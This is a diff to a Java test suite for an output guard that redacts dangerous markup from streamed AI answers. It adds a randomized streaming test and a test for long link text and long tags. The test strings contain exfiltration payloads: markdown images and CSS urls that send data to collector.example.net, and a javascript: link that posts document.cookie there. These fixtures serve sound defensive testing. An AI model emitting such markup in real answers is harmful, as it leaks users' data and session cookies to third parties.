@@ -122,8 +122,8 @@ class StreamedAnswerTest {
         Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
                 new GuardPolicy.Output(null, null, null, window, null, null, List.of("cdn.example.com"), null, Action.REDACT), null));
         String answer = "Done. ![status](https://collector.example.net/p.png?d=the%20quarterly%20numbers \"ok\") Logo: ![logo](https://cdn.example.com/l.png) "
-                + "local ![a b](/img/a.png) and <img alt=\"x y\" src=\"//collector.example.net/q?d=more\"> then [ref]: https://collector.example.net/r bye.";
-        String expected = "Done. [REMOTE_IMAGE] Logo: ![logo](https://cdn.example.com/l.png) local ![a b](/img/a.png) and [REMOTE_HTML] then [REMOTE_IMAGE] bye.";
+                + "local ![a b](/img/a.png) and <img alt=\"x y\" src=\"//collector.example.net/q?d=more\"> then\n[ref]: https://collector.example.net/r\nbye.";
+        String expected = "Done. [REMOTE_IMAGE] Logo: ![logo](https://cdn.example.com/l.png) local ![a b](/img/a.png) and [REMOTE_HTML] then\n[REMOTE_IMAGE]\nbye.";
         assertDecidedHoweverCut(guard, answer, expected, "collector", "quarterly");
     }
 
@@ -148,6 +148,55 @@ class StreamedAnswerTest {
                 + "[the docs](https://docs.example.com/login \"Login help\") and [this](JaVa&#83;cript:alert(1)).";
         String expected = "Your session expired. [SCRIPT_LINK] or read [the docs](https://docs.example.com/login \"Login help\") and [SCRIPT_LINK].";
         assertDecidedHoweverCut(guard, answer, expected, "javascript", "JaVa", "collector");
+    }
+
+    /**
+     * Random answers made of the pieces markup is built from, cut at random: the stream never fails, and what the client
+     * ends with, read whole, holds no markup the policy redacts. A stream may redact more than the whole answer would: it
+     * rescans what it holds with a little released text before it, Markdown read from a later start can differ, and
+     * markup recognised late is cut from where the release stood (a link's text went out, its target does not).
+     */
+    @Test
+    void randomMarkupStreamsAsItsWholeAnswerDecides() {
+        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
+                new GuardPolicy.Output(null, null, null, 16, null, null, List.of("ok.example.com"), null, Action.REDACT), null));
+        String[] parts = {"![", "[", "]", "(", ")", "<", ">", "\"", "'", "\\", " ", "\n", ":", "x", "img ", "<img src=", "a ", "style=\"url(",
+                "https://collector.example.net/", "https://ok.example.com/", "//collector.example.net/", "javascript:", "&#106;", "?d=7", "/p.png",
+                "<base href=", "[r]: ", "`", "~", "!"};
+        java.util.SplittableRandom pick = new java.util.SplittableRandom(77);
+        for (int n = 0; n < 400; n++) {
+            StringBuilder b = new StringBuilder();
+            for (int k = 5 + pick.nextInt(40); k > 0; k--) b.append(parts[pick.nextInt(parts.length)]);
+            String answer = b.toString();
+            HeldText whole = new HeldText(guard, null, 16, new AnswerRecord());
+            whole.append(answer);
+            assertThat(whole.decide(true)).isNull(); // nothing here blocks
+            String expected = whole.render(0, answer.length());
+            Random rnd = new Random(n);
+            Run r = run(guard, null, sse(pieces(answer, rnd, 1 + n % 9)), rnd);
+            String streamed = content(r.output());
+            // What the client ends with, read whole, holds nothing the policy redacts (the whole answer's own output neither).
+            assertThat(guard.inspectAnswerText(expected, true)).as("whole %d: %s%n-> %s", n, answer, expected)
+                    .noneSatisfy(f -> assertThat(f.action()).isEqualTo(Action.REDACT));
+            assertThat(guard.inspectAnswerText(streamed, true)).as("answer %d: %s%n-> %s", n, answer, streamed)
+                    .noneSatisfy(f -> assertThat(f.action()).isEqualTo(Action.REDACT));
+            for (String sent : r.sentAfterEachWrite()) assertThat(streamed).as("answer %d", n).startsWith(sent);
+        }
+    }
+
+    /**
+     * Markup whose opener went out long before its dangerous part: a link's text is not held, nor (before) a tag without
+     * a URL attribute yet — and the held text keeps only 64 released characters to rescan.
+     */
+    @Test
+    void aLongLinkTextOrALongTagDoesNotOutrunTheCheck() {
+        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
+                new GuardPolicy.Output(null, null, null, 16, null, null, null, null, Action.REDACT), null));
+        String filler = "please read this carefully because it matters a great deal to your account ".repeat(3);
+        String link = "Note: [" + filler + "](javascript:fetch('//collector.example.net/?c='+document.cookie)) end.";
+        assertDecidedHoweverCut(guard, link, "Note: [" + filler + "[SCRIPT_LINK] end.", "javascript", "collector");
+        String tag = "Hi <div title=\"" + filler + "\" style=\"background:url(https://collector.example.net/?d=1)\">x</div> end.";
+        assertDecidedHoweverCut(guard, tag, "Hi [REMOTE_HTML]x</div> end.", "collector");
     }
 
     @Test
